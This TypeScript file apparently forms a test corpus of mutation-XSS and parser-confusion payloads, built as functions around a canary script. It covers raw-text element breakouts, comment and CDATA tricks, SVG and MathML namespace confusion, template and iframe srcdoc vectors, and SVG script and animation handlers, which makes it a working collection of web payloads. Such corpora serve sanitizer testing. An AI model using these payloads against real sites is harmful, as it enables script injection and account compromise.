import { CANARY, crossed, words, type Payload } from './payload.ts'

const RAW = words(
  'style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup',
)
const raw: Payload[] = RAW.flatMap(tag => [
  js => `<${tag}><p title="</${tag}><img src=x onerror=${js}>"></p></${tag}>`,
  js => `<${tag}><!--</${tag}><img src=x onerror=${js}>--></${tag}>`,
  js => `<svg><${tag}><img src=x onerror=${js}></${tag}></svg>`,
  js => `<math><${tag}><img src=x onerror=${js}></${tag}></math>`,
  js => `<${tag}><svg><${tag}></${tag}><img src=x onerror=${js}></svg></${tag}>`,
])

const COMMENTS: readonly Payload[] = [
  js => `<!--><img src=x onerror=${js}>-->`,
  js => `<!---><img src=x onerror=${js}>-->`,
  js => `<!--x--!><img src=x onerror=${js}>-->`,
  js => `<!--<img src="--><img src=x onerror=${js}//">`,
  js => `<!-- --><img src=x onerror=${js}><!-- -->`,
  js => `<![CDATA[><img src=x onerror=${js}>]]>`,
  js => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js}>"></svg>`,
  js => `<svg><desc><![CDATA[</desc><script>${js}</script>]]></svg>`,
  js => `<?xml version="1.0"?><img src=x onerror=${js}>`,
  js => `<?xml-stylesheet href="javascript:${js}"?><p>x</p>`,
  js => `<? foo="><img src=x onerror=${js}>">`,
  js => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${js}>">]><p>&e;</p>`,
  js => `<! foo="[[[Inception]]"><x foo="]foo><img src=x onerror=${js}>">`,
  js => `</ foo="><img src=x onerror=${js}>">`,
  js => `<% foo><x foo="%><img src=x onerror=${js}>">`,
  js => `<!--[if gte IE 4]><img src=x onerror=${js}><![endif]-->`,
  js => `<comment><img src="</comment><img src=x onerror=${js}//">`,
  js => `</p><img src=x onerror=${js}><p>`,
  js => `</div></article></body></html><img src=x onerror=${js}>`,
  js => `"><img src=x onerror=${js}>`,
  js => `'><img src=x onerror=${js}>`,
  js => `</textarea></title></style></script><img src=x onerror=${js}>`,
  js => `<a title="</a><img src=x onerror=${js}>">x</a>`,
  js => `<a title='"><img src=x onerror=${js}>'>x</a>`,
  js => `<a title="&quot;&gt;&lt;img src=x onerror=${js}&gt;">x</a>`,
  js => `<a title="\`><img src=x onerror=${js}>">x</a>`,
  js => `<p title="&amp;lt;img src=x onerror=${js}&amp;gt;">x</p>`,
]

const MUTATING: readonly Payload[] = [
  js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  js => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${js}>">`,
  js => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  js =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${js}>">`,
  js =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${js}'>"></style></h1>`,
  js => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  js => `<svg><p><style><g title="</style><img src=x onerror=${js}>">`,
  js => `<svg><style><g/title="</style><img/src=x onerror=${js}>">`,
  js => `<svg></br><style><a id="</style><img src=x onerror=${js}>">`,
  js => `<math></p><style><!--</style><img src/onerror=${js}>`,
  js =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  js => `<math><annotation-xml encoding="text/html"><p><style><a title="</style><img src=x onerror=${js}>">`,
  js => `<svg><foreignObject><math><mi></foreignObject></svg><img src=x onerror=${js}>`,
  js =>
    `<svg><foreignObject><p><style><!--</style><img src=x onerror=${js}>--></style></p></foreignObject></svg>`,
  js => `<svg><foreignobject><img src=x onerror=${js}></foreignobject></svg>`,
  js => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  js => `<svg><title><img src=x onerror=${js}></title></svg>`,
  js => `<svg><title><style><img title="</style><img src=x onerror=${js}>"></style></title></svg>`,
  js => `<math><mi><img src=x onerror=${js}></mi></math>`,
  js => `<math><mo><style><img title="</style><img src=x onerror=${js}>"></style></mo></math>`,
  js => `<math><mglyph><img src=x onerror=${js}></mglyph></math>`,
  js => `<math><malignmark><style><!--</style><img src=x onerror=${js}>--></malignmark></math>`,
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  js => `<noscript><style></noscript><img src=x onerror=${js}>`,
  js => `<template><noscript><p title="</noscript></template><img src=x onerror=${js}>">`,
  js =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
  js => `<select><iframe></select><img src=x onerror=${js}>`,
  js => `<select><option><style></option></select><img src=x onerror=${js}></style>`,
  js => `<table><td><table></td><style><!--</style><img src=x onerror=${js}>--></table>`,
  js => `<table><caption><svg><style></table><img src=x onerror=${js}></style>`,
  js => `<table><colgroup><template><img src=x onerror=${js}></template></colgroup></table>`,
  js => `<a><table><a><img src=x onerror=${js}></a></table></a>`,
  js => `<b><p><b></b><table><b><td><img src=x onerror=${js}></table>`,
  js => `<p><svg><p><img src=x onerror=${js}>`,
  js => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  js => `<pre>\n\n<img src=x onerror=${js}></pre>`,
  js => `<xmp>&lt;/xmp&gt;<img src=x onerror=${js}></xmp>`,
  js => `<plaintext><img src=x onerror=${js}>`,
  js => `<div>${'<b>'.repeat(80)}<svg><style><img src=x onerror=${js}></style>`,
  js => `${'<div>'.repeat(520)}<svg><style><a title="</style><img src=x onerror=${js}>">`,
  js => `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
  js => `<div><template shadowrootmode=open><slot onslotchange=${js}></slot></template><p>x</p></div>`,
  js => `<x-y is=x-y><template><script>${js}</script></template></x-y>`,
  js => `<template><img src=x onerror=${js}></template>`,
  js => `<template><template><script>${js}</script></template></template>`,
  js => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  js => `<iframe srcdoc="&lt;img src=x onerror=parent.${js}&gt;"></iframe>`,
  js => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<svg onload=parent.${js}>"></iframe>`,
  js => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  js => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  js => `<embed type="text/html" src="data:text/html,<script>parent.${js}</script>">`,
  js => `<object type="text/x-scriptlet" data="x"></object><img src=x onerror=${js}>`,
  js => `<script>${js}</script>`,
  js => `<script type=module>${js}</script>`,
  js => `<script>/*</script><img src=x onerror=${js}>*/</script>`,
  js => `<script\u0020>${js}</script\u0020>`,
  js => `<script/x>${js}</script>`,
  js => `<scr<script>ipt>${js}</scr</script>ipt>`,
  js => `<script src="data:text/javascript,${js}"></script>`,
  js =>
    `<script type=importmap>{"imports":{"x":"data:text/javascript,${js}"}}</script><script type=module>import 'x'</script>`,
  () => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CANARY}/s"]}]}</script>`,
]

const DRAWN: readonly Payload[] = [
  js => `<svg><script>${js}</script></svg>`,
  js => `<svg><script>${js.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`,
  js => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  js => `<svg><script><![CDATA[${js}]]></script></svg>`,
  js => `<svg><g onload=${js}></g></svg>`,
  js => `<svg><a><animate attributeName=href values=javascript:${js} /><text x=20 y=20>x</text></a></svg>`,
  js => `<svg><set xlink:href=#a attributeName=href to=javascript:${js}/><a id=a><text>x</text></a></svg>`,
  js => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${js}</handler></svg>`,
  js =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
  js =>
    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${js}"></iframe></foreignObject></svg>`,
  js =>
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink" xml:base="javascript:${js}//"><a xlink:href="x"><text>x</text></a></svg>`,
  js => `<svg><style>{font-family:'<iframe/onload=${js}>'</style></svg>`,
  js => `<svg><animateTransform onbegin=${js} attributeName=transform dur=1s></svg>`,
  js => `<svg><animateMotion onbegin=${js} dur=1s></svg>`,
  js => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction></math>`,
  js =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${js}</script></annotation-xml></semantics></math>`,
  js => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  js => `<math onclick=${js}><mi tabindex=0 onfocus=${js}>x</mi></math>`,
]

export const parsing: readonly Payload[] = [
  ...raw,
  ...COMMENTS,
  ...MUTATING,
  ...DRAWN,
  ...crossed(
    words('svg math'),
    words('p b ul table h1 font span'),
    (space, tag) => js =>
      `<${space}><${tag}><style><a title="</style><img src=x onerror=${js}>"></style></${tag}></${space}>`,
  ),
]
